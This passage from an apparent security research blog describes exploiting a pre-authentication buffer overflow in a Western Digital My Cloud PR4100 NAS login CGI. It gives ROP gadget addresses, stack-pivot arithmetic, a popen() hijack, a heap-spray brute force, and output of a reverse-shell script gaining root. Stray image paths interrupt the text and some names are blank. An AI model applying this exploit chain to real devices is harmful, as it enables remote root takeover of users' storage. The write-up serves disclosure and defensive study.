It should be noted that pwd_decoded may contain null bytes, if they occur after the ROP gadget that should overwrite check_login()’s return address.If the first gadget manages to pivot the stack to that memory region, return-oriented programming would allow us to better control the crash, as the gadget chain located there is not subject to the null byte restriction anymore.

Therefore, the CGI binary was analyzed for potential stack pivot gadgets. Most of the candidates were gadgets that added a fixed offset to the RSP register. Unfortunately, most of the offsets were either too big or too small to make the RSP register point to the Base64-decoded password.

The best gadget that we could find is located at address 0x403bfe and allows us to fully control the RBX register before making another singlejump. The potential stack pivot gadgets were identified with the help of the tool

$ --binary login_mgr.cgi
Gadgets information
[...] 0x0000000000403bfe : lea rsp, [rsp + 0x140] ; pop rbx ; ret

With this pivot, it was only possible to chain one more gadget, since the stack pivot results in the RSP register almost pointing to the end of the user-controlled data, as shown in thefollowing calculation:

In [1]: hex( 0x7f00c8 + 8 + 0x140 ) # RSP+ret into pivot gadget+pivot offset
Out[1]: '0x7f0210'

Immediately before the ret instruction of check_login() is executed, the RSP register points to 0x7f00c8. It is then advanced by 8 (ret into stack pivot gadget) and by 0x140 (pivot offset). Comparing this result to the stack layout above, the distance between the new value of the RSP register and the end of the user-controlled data at 0x7f0220 is exactly 16 bytes, so that we are now able to set the RBX register and return to an arbitrary address by using the final 16 bytes of the attacker-controlled buffer.

With the initial restrictions slightly lifted, we analyzed the CGI binary for suitable jump targets that would give us even more control over the process.

Primary Exploitation Strategy

It was noticed that the CGI binary frequently uses popen() and system() to execute shell commands. One location at address 0x402c45 looked very promising. The rep movsq instruction copies 976 bytes (or 122 quad words, see next section) from the memory location designated by the RSIregister to the memory location that the RDI register points to (0x607540).

.text:0000000000402C45                 rep movsq
.text:0000000000402C48                 mov     eax, [rsi]
.text:0000000000402C4A                 mov     esi, offset aR  ; type
.text:0000000000402C4F                 mov     [rdi], eax
.text:0000000000402C51                 movzx   eax, cs:byte_405EB4
.text:0000000000402C58                 mov     [rdi+4], al
.text:0000000000402C5B                 lea     rdi, [rbx]      ; command
.text:0000000000402C5E                 call    _popen

Going back to the crash, one can see that the RDI register points to writable memory in the BSS segment of the CGI binary, and the RSI register points to the password hash that was read from the shadow file. The user-controlled Base64-encoded password is located 272 bytes further:

pwndbg> x/s $rsi
0x7fffffffd590: "$1$$JnmDdozMe7jLVzJ1cGFHU."
pwndbg> x/s $rsi+272
0x7fffffffd6a0: 'X' <repeats 127 times>

Therefore, in the context of our target, the rep movsq instruction, this will copy data that is partially controlled by the user to the BSS segment of the CGI binary, which is located at a known address. Next, the type argument for the popen() call is prepared at address 0x402c4a. The remaining mov(zx) instructions are irrelevant for our goal. The lea instruction at address 0x402c5b prepares the command argument for the popen() call by copying the RBX register to the RDI register. Finally, the popen() function is called at address 0x402c5e.

Together with our stack pivot gadget, which allows us to point the RBX register to our controlled data that now resides in the BSS segment, we can effectively control the command argument of the popen() call and thereby achieveunauthenticated remote code execution as root.

The attack was implemented as a Python script named It takes the URL of the targeted device (url) and the IP address of the attacker’s host (lhost) as arguments. Optionally, one can specify a custom username to be used during exploitation. The script starts a listening socket, builds the ROP chain (which executes a Bash-based connect back shell), sends the HTTP request, andwaits for the incoming connection of the connect back shell. It then uses Python’s telnetlib module to allow user interaction with the remote shell:

$ ./ -h
usage: [-h] [-u USER] url lhost

positional arguments:

optional arguments:
  -h, --help            show this help message and exit
  -u USER, --user USER
$ ./
[*] Target URL:
[+] Started reverse shell listener on port 38287
[+] Building ROP chain
[+] Sending magic HTTP request[*] Waiting for reverse shell
[+] Accepted connection from ('', 36288)
[+] Enjoy your shell!
bash: no job control in this shell
bash-4.2# id
uid=0(root) gid=0(root) groups=0(root)
bash-4.2# uname -a
uname -a
Linux MyCloudPR4100 4.1.13 #1 SMP Mon Jun 29 00:11:44 PDT 2020 Build-git249a60f x86_64 GNU/Linux

Limit Analysis of rep movsq

In this section, we analyze how much data the rep movsq instruction that we leveraged earlier will actually copy. As the rep prefix uses RCX’s value to determine how oftenthe movsq instruction is executed, we need to trace back its value. Thus, we analyzed the code between the vulnerable call to strcpy() in check_login() and the retn instruction where our ROP chain assumes initial control. We noticed that the register is last modified by a call to strcmp() at address 0x404535, which compares the computed password hash to the stored one. In our case, the comparison looked like this:

 ► 0x404535    call   strcmp@plt <strcmp@plt>
        s1: 0x607540 ◂— '$1$$2c56ZJLNA4jkKUtQFyhpl.'
        s2: 0x7fffffffd590 ◂— '$1$$JnmDdozMe7jLVzJ1cGFHU.'

pwndbg> x/s $rdi
0x607540:       "$1$$2c56ZJLNA4jkKUtQFyhpl."
pwndbg> x/s $rsi
0x7fffffffd590: "$1$$JnmDdozMe7jLVzJ1cGFHU."

On the target device, strcmp() is resolved to __strcmp_ssse3() by the dynamic linker. At the end of that function, the difference of the last two compared characters is computed:

.text:0000000000124E30                 bsf     rdx, rdx
.text:0000000000124E34                 movzx   ecx, byte ptr [rsi+rdx] .text:0000000000124E38                 movzxeax, byte ptr [rdi+rdx] .text:0000000000124E3C                 sub     eax, ecx
.text:0000000000124E3E                 retn
.text:0000000000124E3E __strcmp_ssse3  endp

First, the Bit Scan Forward (bsf) instruction stores the offset of the first differing character in the RDX register. Next, that character is loaded from the password hash previously read from the shadow file into the ECXregister while the corresponding character from the computed hash is stored in EAX. Considering the crypt() alphabet of decimals, uppercase and lowercase alphabet, dot, and slash, ECX may range from 0x2e (“.”) to 0x7a (“z”).

By coincidence, this value therefore specifies the number of quad words (8 bytes) that will get copied by the rep movsq instruction during the execution of our ROP chain. In case of the smallest possible value, 368 bytes would get copied, and in case of the largest possible value, 976 bytes would get copied.

root@MyCloudPR4100 cgi-bin # cat /proc/9203/maps
00400000-00407000 r-xp 00000000 07:00 3586 /usr/[...]/cgi/login_mgr.cgi
00607000-00608000 rw-p 00007000 07:00 3586 /usr/[...]/cgi/login_mgr.cgi

From the memory layout, it is apparent that the mapped BSS section got mapped to the segment at 0x00607000-0x00608000. Luckily, the copy operation facilitated by the rep movsq instruction will never write past the end of the segment, even if the maximum of 976 bytes is copied. Since the RDI register has a value of 0x607540 in our scenario, this can be verified as follows:

In [1]: 0x607540 + 976 <= 0x608000|
Out[1]: True

Alternative Exploitation Strategy

Another successful exploitation strategy for the vulnerability is to brute force a valid heap address pointing to an attacker-controlled string. On the target device, address space layout randomization is enabled. As our target service is not a forking server, which might allow a byte-wise brute-force attack, in theory brute-force guessing of addresses should be infeasible.

To our surprise, we found that the location of the heap segment was not properly randomized by the kernel in the prior firmware version that we looked at. This behavior seemed to affect any process on the target system and was not limited to thelogin_mgr.cgi binary. While sampling heap addresses a number of times, the lowest and highest observed start addresses of the heap were only located approximately 31 MB apart. This allowed us to use our stack pivot together with the following gadget to guess a valid heap address for attacker-controlled data, load it into RBX, and thereby pass it to popen():

.text:0000000000402C5B                 lea     rdi, [rbx]      ; command
.text:0000000000402C5E                 call    _popen

If RBX points to a valid shell command, the command will be executed through the popen() call. To increase our odds of guessing “the right address,” we sprayed the heap by appending arbitrarily named POST parameters that contained the desired shell command prefixed by a long “space slide.”

On average, code execution wasregularly achieved after 190 attempts, which in our test setup took approximately 10 to 15 seconds. The average was calculated over 30 runs, and the system was rebooted after 10 and 20 runs. The root cause of the weak randomization was not explored further.


In this blog, we described our journey of identifying and exploiting a pre-authentication stack-based buffer overflow vulnerability on the Western Digital My Cloud Pro Series PR4100 NAS that can be used to gain remote access to the device as root. Two successfulstrategies that both allowed for fast and reliable exploitation of the vulnerability were established and discussed in depth.

The research started as an experiment after the announcement of the Pwn2Own Tokyo 2020. Since the vulnerable code was removed shortly before the contest, we decided not to participate but wanted to share our results nonetheless. We hope you enjoyed reading this blog, and we welcome your feedback.

We would like to thank the Western Digital PSIRT for their swift response when contacted about the issue.

Additional Resources

CrowdStrike Falcon Free Trial

Try CrowdStrike Free for 15 Days Get Started with A Free Trial